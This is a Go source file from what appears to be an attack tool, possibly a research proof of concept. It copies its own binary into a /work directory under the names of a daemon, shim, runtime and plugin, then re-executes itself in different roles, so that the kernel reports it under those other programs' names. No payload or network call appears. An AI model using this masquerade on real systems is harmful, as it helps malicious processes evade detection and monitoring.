package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
)

const (
	// work is the directory of the attack's files.
	work = "/work"
	// roleVariable is the environment variable with the role of a copy.
	roleVariable = "ATTACK_ROLE"
)

// disguises are the names of the files that are this program.
var disguises = []string{daemonName, shimName, runtimeName, pluginName}

// disguise makes these files. They are not symbolic links: the kernel knows a program
// by the name of the file itself. It is done before any program is executed, since a
// file cannot be executed while a process has it open for writing.
func disguise() error {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	for _, name := range disguises {
		if err := os.WriteFile(disguised(name), self, 0o755); err != nil {
			return fmt.Errorf("disguise as %s: %w", name, err)
		}
	}
	return nil
}

// disguised returns the path of the file of this name.
func disguised(name string) string { return filepath.Join(work, name) }

// act returns a command that executes this program as a file of another name, in a
// role.
func act(name, role string, args ...string) *exec.Cmd {
	cmd := exec.Command(disguised(name), args...)
	cmd.Env = append(os.Environ(), roleVariable+"="+role)
	cmd.Stderr = os.Stderr
	return cmd
}

// play runs that to its end. Its exit status does not matter.
func play(name, role string, args ...string) error {
	return ignoreStatus(act(name, role, args...).Run())
}

func ignoreStatus(err error) error {
	var status *exec.ExitError
	if errors.As(err, &status) {
		return nil
	}
	return err
}

// writeFile writes a file and the directories above it.
func writeFile(path, content string) error {
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		return err
	}
	return os.WriteFile(path, []byte(content), 0o644)
}
